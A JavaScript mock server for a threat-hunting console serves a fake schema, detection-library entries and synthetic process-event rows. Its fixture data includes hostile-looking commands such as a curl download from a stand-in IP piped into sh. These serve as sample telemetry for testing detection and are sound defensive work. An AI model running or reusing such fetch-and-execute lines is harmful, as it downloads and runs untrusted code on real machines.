// The hunting half of the mock server: the shapes of docs/reference/api.md with made-up rows. It does not know the
// language; words in the query choose what comes: `slow`, `big`, `nothing`, `boom`, `nosuch`, `render KIND`, and
// `where COLUMN == "text"` is obeyed, so that filters can be seen to work.
import { randomUUID } from 'node:crypto';
import { at, deviceId, devices, key, NOW } from './story.mjs';

const column = (text) => {
  const [name, type = 'string', doc = `The ${name} of the event.`] = text.split(':');
  return { name, type, doc };
};
const columns = (text) => text.trim().split(/\s+/).map(column);
const EVENT = 'Timestamp:datetime DeviceId DeviceName ActionType';
const INITIATING =
  'InitiatingProcessFileName InitiatingProcessCommandLine InitiatingProcessAccountName InitiatingProcessId:long InitiatingProcessUniqueId ReportId:long AdditionalFields:dynamic';
const table = (name, doc, text, feature = null) => ({
  name,
  doc,
  feature,
  empty: feature !== null,
  retentionDays: 180,
  columns: columns(text),
});
export const schema = {
  schemaVersion: 1,
  tables: [
    table(
      'AlertEvidence',
      'Entities of alerts.',
      'Timestamp:datetime AlertId Title EntityType EvidenceRole DeviceName',
    ),
    table('AlertInfo', 'Alerts.', 'Timestamp:datetime AlertId Title Severity Category AttackTechniques'),
    table('DeviceEvents', 'What does not fit elsewhere.', `${EVENT} RemoteUrl ${INITIATING}`),
    table('DeviceFileEvents', 'Files written, renamed, deleted.', `${EVENT} FileName FolderPath SHA256 ${INITIATING}`),
    table('DeviceInfo', 'The machines.', 'Timestamp:datetime DeviceId DeviceName OSPlatform OSVersion'),
    table('DeviceLogonEvents', 'Log-ons.', `${EVENT} AccountName LogonType RemoteIP ${INITIATING}`),
    table('DeviceNetworkEvents', 'Connections.', `${EVENT} RemoteIP RemotePort:int RemoteUrl LocalIP ${INITIATING}`),
    table(
      'DeviceProcessEvents',
      'Processes that were started.',
      `${EVENT} FileName FolderPath SHA256 ProcessId:long ProcessCommandLine AccountName ProcessUniqueId ${INITIATING}`,
    ),
    table(
      'DeviceTvmSoftwareVulnerabilities',
      'Vulnerabilities of software.',
      'DeviceId DeviceName SoftwareName CveId',
      'vulnerability management',
    ),
  ],
};
const words = (text) =>
  text
    .trim()
    .split(/\s+/)
    .map((name) => ({ name }));
export const capabilities = {
  operators: words(
    'where project project-away extend summarize join union sort order top take limit count distinct mv-expand parse make-series render print datatable range let evaluate serialize lookup',
  ),
  functions: words(
    'ago now bin tostring tolower strlen split strcat isempty isnotempty isnull parse_json datetime_diff iff extract',
  ),
  aggregates: words('count dcount sum avg min max make_set make_list countif arg_max arg_min'),
  plugins: words('bag_unpack pivot'),
};
const library = [
  ['Shells started by web servers', ['Execution', 'Persistence'], 'T1505.003'],
  ['Downloads piped into a shell', ['Execution'], 'T1059.004'],
  ['New entries in crontabs', ['Persistence'], 'T1053.003'],
  ['Reads of password hashes', ['CredentialAccess'], 'T1003.008'],
].map(([title, tactics, technique], i) => ({
  id: `linux-${i}`,
  title,
  description: `${title}: look at the command line and the parent.`,
  tactics,
  techniques: [technique],
  query: `// ${title}\nDeviceProcessEvents\n| where FileName in ("sh", "bash")\n| take 100`,
}));

const FILES = ['bash', 'sh', 'curl', 'python3', 'nginx', 'cron', 'sshd', 'ls', 'systemd', 'apt'];
const LINES = [
  'bash -c "curl -fsSL http://198.51.100.7/x.sh | sh"',
  'sh -c id',
  'curl -fsSL http://198.51.100.7/x.sh -o /tmp/.x',
  'python3 /opt/app/worker.py --queue mail --verbose',
  'nginx: worker process',
  '/usr/sbin/cron -f',
  'sshd: deploy [priv]',
  'ls -la --color=auto /etc/systemd/system',
  '/lib/systemd/systemd --user',
  'apt-get -q -y -o DPkg::Options::=--force-confold upgrade',
];
const NAMES = columns(
  'Timestamp:datetime DeviceName FileName ProcessCommandLine AccountName ProcessId:long RemoteIP AdditionalFields:dynamic DeviceId ProcessUniqueId InitiatingProcessFileName SHA256',
).map(({ name, type }) => ({ name, type }));
function row(i) {
  const f = (i * 7) % FILES.length;
  const d = (i * 3) % 4;
  return [
    at(40 + i * 31),
    devices[d].computerDnsName,
    FILES[f],
    LINES[f],
    i % 5 ? 'root' : 'www-data',
    1000 + i,
    i % 4 ? '' : '198.51.100.7',
    i % 3 ? null : { Truncated: false, Container: { Name: 'web', Labels: ['prod', 'eu'] }, Attempt: i },
    deviceId(d),
    key(1000 + i),
    f < 3 ? 'nginx' : 'systemd',
    (i * 7919).toString(16).padStart(8, '0').repeat(8),
  ];
}

function rendered(kind, query) {
  const title = /title\s*=\s*"([^"]*)"/.exec(query)?.[1];
  const properties = title ? [['title', title]] : [];
  const style = /kind\s*=\s*(stacked100|stacked)\b/.exec(query)?.[1];
  if (style) properties.push(['kind', style]);
  const render = { kind, properties };
  if (kind === 'timechart' || kind.endsWith('areachart'))
    return {
      render,
      columns: [
        { name: 'Timestamp', type: 'datetime' },
        { name: 'DeviceName', type: 'string' },
        { name: 'count_', type: 'long' },
      ],
      rows: Array.from({ length: 96 }, (_, i) => [
        new Date(Math.floor(NOW / 3_600_000) * 3_600_000 - Math.floor(i / 3) * 3_600_000).toISOString(),
        devices[i % 3].computerDnsName,
        Math.round(40 + 30 * Math.sin(i / 7) + ((i * 37) % 23)),
      ]),
    };
  if (kind === 'scatterchart')
    return {
      render,
      columns: [
        { name: 'Bytes', type: 'long' },
        { name: 'Seconds', type: 'real' },
      ],
      rows: Array.from({ length: 200 }, (_, i) => [(i * 7919) % 5000, ((i * 104_729) % 997) / 10]),
    };
  if (kind === 'card')
    return {
      render,
      columns: [
        { name: 'Devices', type: 'long' },
        { name: 'Alerts', type: 'long' },
      ],
      rows: [[1240, 17]],
    };
  return {
    render,
    columns: [
      { name: 'FileName', type: 'string' },
      { name: 'count_', type: 'long' },
    ],
    rows: FILES.map((name, i) => [name, Math.round(900 / (i + 1))]),
  };
}

function diagnose(query) {
  const found = [];
  for (const m of query.matchAll(/\bnosuch\w*/g)) {
    const before = query.slice(0, m.index).split('\n');
    const place = { line: before.length, column: (before.at(-1) ?? '').length + 1 };
    found.push({
      code: 'KS142',
      severity: 'error',
      message: `\`${m[0]}\` is no column, table, variable or function here.`,
      hint: 'Did you mean `FileName`?',
      ...place,
      endLine: place.line,
      endColumn: place.column + m[0].length,
      start: m.index,
      end: m.index + m[0].length,
    });
  }
  return found;
}

/** `tell` sends an event to the streams. */
export function huntingMock(tell) {
  const saved = [
    {
      id: 'q1',
      name: 'Web shells',
      folder: 'Hunts/Web',
      description: 'What web servers start.',
      query: 'DeviceProcessEvents\n| where InitiatingProcessFileName == "nginx"',
      shared: true,
      owner: 'alice',
      created: at(9000),
      updated: at(900),
      mine: false,
    },
  ];
  // A hunt of the past that a new indicator started.
  const history = [
    {
      id: '01990000-0000-7000-8000-000000000001',
      started: at(7000),
      durationMs: 812,
      interface: 'retrohunt',
      user: 'admin',
      state: 'Completed',
      usage: 'Low',
      rowsScanned: 41_000,
      bytesScanned: 0,
      filesTotal: 0,
      filesRead: 0,
      filesDone: 0,
      rowGroupsRead: 0,
      memoryPeakBytes: 0,
      spilledBytes: 0,
      cpuMs: 0,
      rowsReturned: 3,
      bytesReturned: 0,
      tables: ['DeviceNetworkEvents'],
      query: '// Retro-hunt for the indicator i1 (Botnet)',
      origin: { kind: 'indicator', target: 'i1', title: 'Botnet', retroHuntId: 'rh-1' },
    },
  ];
  const running = new Map();
  const asked = [];
  const problem = (status, code, title, hint, more = {}) => ({ status, body: { code, title, status, hint, ...more } });

  function answer(body) {
    const { query } = body;
    const kind = /\brender\s+(\w+)/.exec(query)?.[1];
    let result = kind && kind !== 'table' ? rendered(kind, query) : null;
    if (!result) {
      const count = query.includes('nothing') ? 0 : query.includes('big') ? 30_000 : 120;
      const filters = [...query.matchAll(/where (\w+) (==|!=) "((?:[^"\\]|\\.)*)"/g)].map(([, name, sign, text]) => ({
        i: NAMES.findIndex((c) => c.name === name),
        keep: sign === '==',
        value: JSON.parse(`"${text}"`),
      }));
      const rows = Array.from({ length: count }, (_, i) => row(i)).filter((r) =>
        filters.every((f) => f.i < 0 || (r[f.i] === f.value) === f.keep),
      );
      result = { columns: NAMES, rows, render: null };
    }
    const big = query.includes('big');
    const lacks = query.includes('gaps') || big;
    return {
      ...result,
      id: body.id,
      diagnostics: query.includes('warned')
        ? [
            {
              ...diagnose('nosuch')[0],
              severity: 'warning',
              code: 'GQ101',
              message: 'This compares text with a number.',
            },
          ]
        : [],
      completeness: {
        complete: !lacks,
        statement: lacks
          ? `2 devices have gaps in the range${big ? '; the answer was cut at 30000 rows' : ''}`
          : 'every device is whole',
        from: at(30 * 86_400),
        to: at(0),
        rowCap: big ? 30_000 : null,
        byteCap: null,
        devices: lacks
          ? [
              {
                deviceId: deviceId(0),
                deviceName: devices[0].computerDnsName,
                lostRows: 412,
                losses: [{ cause: 'RingFull', table: 'DeviceProcessEvents', rows: 412, from: at(9000), to: at(8000) }],
                gaps: [{ bootId: 'b', after: 88_121, before: 88_534, rows: 412 }],
                offline: null,
              },
              {
                deviceId: deviceId(3),
                deviceName: devices[3].computerDnsName,
                lostRows: 0,
                losses: [],
                gaps: [],
                offline: { since: at(7200) },
              },
            ]
          : [],
        devicesMore: 0,
      },
      resources: {
        id: body.id,
        started: at(0),
        durationMs: 41,
        interface: 'console',
        user: 'admin',
        state: 'Completed',
        usage: 'Low',
        rowsScanned: 1_204_331,
        bytesScanned: 41_943_040,
        filesTotal: 31,
        filesRead: 4,
        filesDone: 4,
        rowGroupsRead: 6,
        memoryPeakBytes: 10_485_760,
        spilledBytes: 0,
        cpuMs: 63,
        rowsReturned: result.rows.length,
        bytesReturned: 41_200,
        tables: ['DeviceProcessEvents'],
      },
    };
  }

  async function run(body) {
    asked.push(body);
    const id = body.id ?? randomUUID();
    const past = (state, error) =>
      history.unshift({
        ...answer({ ...body, id }).resources,
        id,
        started: new Date().toISOString(),
        query: body.query,
        state,
        error,
      });
    const wrong = diagnose(body.query);
    if (wrong.length > 0) {
      past('Refused', 'query_not_valid');
      return problem(400, 'query_not_valid', 'The query has an error.', 'See its place.', { diagnostics: wrong });
    }
    if (body.query.includes('boom')) {
      past('TimedOut', 'query_timeout');
      return problem(504, 'query_timeout', 'The query took longer than 10 minutes.', 'Narrow the time range.');
    }
    if (body.query.includes('slow')) {
      const started = Date.now();
      const telling = setInterval(
        () => tell('huntProgress', progress(id, { started, query: body.query })),
        300,
      ).unref();
      const ended = await new Promise((done) => {
        running.set(id, { done, started, query: body.query });
        setTimeout(() => done('done'), 20_000).unref();
      });
      clearInterval(telling);
      running.delete(id);
      if (ended === 'cancelled') {
        past('Cancelled', 'query_cancelled');
        return problem(409, 'query_cancelled', 'The query was cancelled.');
      }
    }
    past('Completed');
    return { status: 200, body: answer({ ...body, id }) };
  }

  function file(body, format) {
    asked.push({ ...body, format });
    const { columns: names, rows } = answer({ ...body, id: 'export' });
    const cell = (v) =>
      `"${String(v === null ? '' : typeof v === 'object' ? JSON.stringify(v) : v).replaceAll('"', '""')}"`;
    const csv = [names.map((c) => c.name).join(','), ...rows.map((r) => r.map(cell).join(','))].join('\r\n');
    const json = JSON.stringify(rows.map((r) => Object.fromEntries(names.map((c, i) => [c.name, r[i]]))));
    if (format === 'csv') return { status: 200, raw: csv, type: 'text/csv' };
    if (format === 'json') return { status: 200, raw: json, type: 'application/json' };
    return { status: 200, raw: Buffer.from('PAR1…PAR1'), type: 'application/vnd.apache.parquet' };
  }

  const polled = [];
  const progress = (id, one) => {
    const elapsedMs = Date.now() - one.started;
    return {
      id,
      started: at(0),
      elapsedMs,
      query: one.query,
      state: 'Running',
      rowsScanned: elapsedMs * 1000,
      bytesScanned: elapsedMs * 90_000,
      filesTotal: 64,
      filesRead: 31,
      filesDone: Math.min(30, Math.floor(elapsedMs / 300)),
      memoryPeakBytes: 12_000_000,
      rowsFound: Math.floor(elapsedMs / 100),
    };
  };

  /** Answers below /api/v1/hunting. */
  async function api(method, [room, id], query, body) {
    if (room === 'schema') return { status: 200, body: schema };
    if (room === 'capabilities') return { status: 200, body: capabilities };
    if (room === 'library') return { status: 200, body: { items: library } };
    if (room === 'history') return { status: 200, body: { items: history } };
    if (room === 'run') return run(body);
    if (room === 'export') return file(body, query.get('format'));
    if (room === 'runs') {
      const one = running.get(id);
      if (!one) return problem(404, 'not_found', 'There is no such thing here.');
      if (method === 'DELETE') {
        one.done('cancelled');
        return { status: 204, body: null };
      }
      polled.push(id);
      return { status: 200, body: progress(id, one) };
    }
    if (room === 'validate') {
      const diagnostics = diagnose(body.query);
      return {
        status: 200,
        body: { valid: diagnostics.length === 0, diagnostics, columns: null, render: null, tables: [] },
      };
    }
    if (room === 'complete')
      return {
        status: 200,
        body: { from: body.position, to: body.position, items: [{ label: 'take', insert: 'take ', kind: 'operator' }] },
      };
    if (room === 'format') return { status: 200, body: { query: body.query.replace(/\s*\|\s*/g, '\n| ').trim() } };
    if (room === 'queries') {
      const i = saved.findIndex((one) => one.id === id);
      if (method === 'POST' || method === 'PUT') {
        const taken = saved.some(
          (one) => one.id !== id && one.mine && one.name === body.name && one.folder === (body.folder ?? ''),
        );
        if (taken)
          return problem(409, 'name_taken', 'There is a query of this name in the folder.', 'Choose another name.');
      }
      if (method === 'POST') {
        const one = {
          folder: '',
          description: '',
          shared: false,
          ...body,
          id: randomUUID(),
          owner: 'admin',
          mine: true,
          created: at(0),
          updated: at(0),
        };
        saved.push(one);
        return { status: 201, body: one };
      }
      if (id && i < 0) return problem(404, 'not_found', 'There is no such thing here.');
      if (method === 'PUT') Object.assign(saved[i], body, { updated: at(0) });
      if (method === 'DELETE') {
        saved.splice(i, 1);
        return { status: 204, body: null };
      }
      return { status: 200, body: id ? saved[i] : { items: saved } };
    }
    return problem(404, 'not_found', 'There is no such thing here.');
  }

  return { api, asked, polled };
}
